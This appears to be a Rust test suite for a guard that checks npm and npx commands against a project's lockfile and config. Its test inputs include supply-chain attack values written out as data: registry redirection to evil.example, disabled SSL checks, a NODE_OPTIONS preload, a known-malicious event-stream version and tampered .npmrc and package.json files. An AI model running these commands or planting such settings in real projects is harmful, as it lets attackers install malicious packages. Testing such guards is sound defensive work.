//! npm, by whatever spelling, in a project with a sound lock and in such as are not.

use std::fs;

use crate::javascript as js;
use crate::model::Model;
use crate::scene::Becomes::{Ask, Pass, Refuse};
use crate::scene::{Becomes, Scene};

fn sound() -> Scene {
    let scene = Scene::new();
    scene.write("package.json", &js::manifest());
    scene.write("package-lock.json", &js::npm(&Model::new(), 3));
    scene.trust();
    scene
}

#[test]
fn with_a_sound_lock_ordinary_work_passes_and_what_is_not_pinned_does_not() {
    let lines: &[(&str, Becomes)] = &[
        ("npm ci", Pass),
        ("npm ci --ignore-scripts --omit=dev", Pass),
        ("npm install-clean", Pass),
        ("npm install", Pass),
        ("npm test", Pass),
        ("npm run build -- --registry=https://evil.example", Pass),
        ("npm ls --all", Pass),
        ("npm outdated", Pass),
        ("npm init -y", Pass),
        ("npm config get registry", Pass),
        ("npm uninstall bowsprit --ignore-scripts", Pass),
        ("npm install lodash", Refuse),
        ("npm --registry https://evil.example i lodash", Refuse),
        ("npm isntall lodash@latest", Refuse),
        ("npm installTest lodash", Refuse),
        ("npm install lodash --dry-run", Pass),
        ("npm install lodash --dry-run false", Refuse),
        ("npm install lodash --dry-run --no-dry-run", Refuse),
        ("npm i lodash@4.17.21", Ask),
        ("npm i event-stream@3.3.6", Refuse),
        ("npm i alice/tool", Refuse),
        ("npm i a@npm:b@^1", Refuse),
        ("npm ci --registry https://npm.registry.example/", Pass),
        ("npm ci --reg http://127.0.0.1:4873", Refuse),
        ("NPM_CONFIG_REGISTRY=https://evil.example npm ci", Refuse),
        ("npm_config_strict_ssl=false npm ci", Refuse),
        ("NODE_OPTIONS=--require=./pre.js npm ci", Refuse),
        ("NODE_OPTIONS=--max-old-space-size=4096 npm ci", Pass),
        ("npx cowsay", Refuse),
        ("npm create vite@latest", Refuse),
    ];
    let scene = sound();
    let wrong: Vec<String> = lines
        .iter()
        .filter(|(line, becomes)| {
            let code = scene.check(line).code;
            // Whether it is refused or asked is the rule's; that it does not pass is what counts here.
            (code == Some(0)) != (*becomes == Pass)
        })
        .map(|(line, _)| (*line).to_owned())
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn programs_that_are_here_are_run_and_no_others() {
    let scene = sound();
    scene.write("node_modules/.bin/tsc", "");
    scene.write("node_modules/typescript/package.json", "{\n  \"version\": \"5.0.0\"\n}");
    for (line, passes) in [
        ("npx tsc --noEmit", true),
        ("npx --no-install tsc", true),
        ("npx typescript@5.0.0 tsc", true),
        ("npm exec -- tsc", true),
        ("npx tsx x.ts", false),
        ("npx typescript@5.1.0", false),
        ("npx -p cowsay tsc", false),
        ("npx ../tsc", false),
    ] {
        assert_eq!(scene.check(line).code == Some(0), passes, "{line}");
    }
}

#[test]
fn a_project_says_by_its_files_what_npm_does() {
    for (what, file, text, line) in [
        ("a shell of the project's", ".npmrc", "script-shell=./sh.sh\n", "npm run build"),
        ("loaded by every node", ".npmrc", "node-options=--require ./pre.js\n", "npm test"),
        ("another registry", ".npmrc", "registry=https://evil.example/\n", "npm ci"),
        ("no encryption", ".npmrc", "strict-ssl=false\n", "npm ci"),
        ("another lock", "npm-shrinkwrap.json", "{\"lockfileVersion\": 3, \"packages\": {}}", "npm ci"),
        (
            "an install in a script",
            "package.json",
            "{\"name\": \"app\", \"scripts\": {\"setup\": \"npm install evil\"}}",
            "npm run setup",
        ),
        (
            "a changed manifest",
            "package.json",
            "{\"name\": \"app\", \"dependencies\": {\"evil\": \"*\"}}",
            "npm ci",
        ),
    ] {
        let scene = sound();
        assert_eq!(scene.check(line).code, Some(0), "before: {line}");
        scene.write(file, text);
        let said = scene.check(line);
        assert_ne!(said.code, Some(0), "{what}: {line}: {}", said.stdout);
    }
}

#[test]
fn a_lock_that_is_gone_or_lies_elsewhere_is_none() {
    let scene = sound();
    fs::remove_file(scene.dir.join("package-lock.json")).unwrap();
    assert_ne!(scene.check("npm install").code, Some(0), "it would resolve anew");
    let outside = scene.home.path("outside.json");
    fs::write(&outside, js::npm(&Model::new(), 3)).unwrap();
    std::os::unix::fs::symlink(&outside, scene.dir.join("package-lock.json")).unwrap();
    assert_ne!(scene.check("npm ci").code, Some(0), "a link out of the project");
}
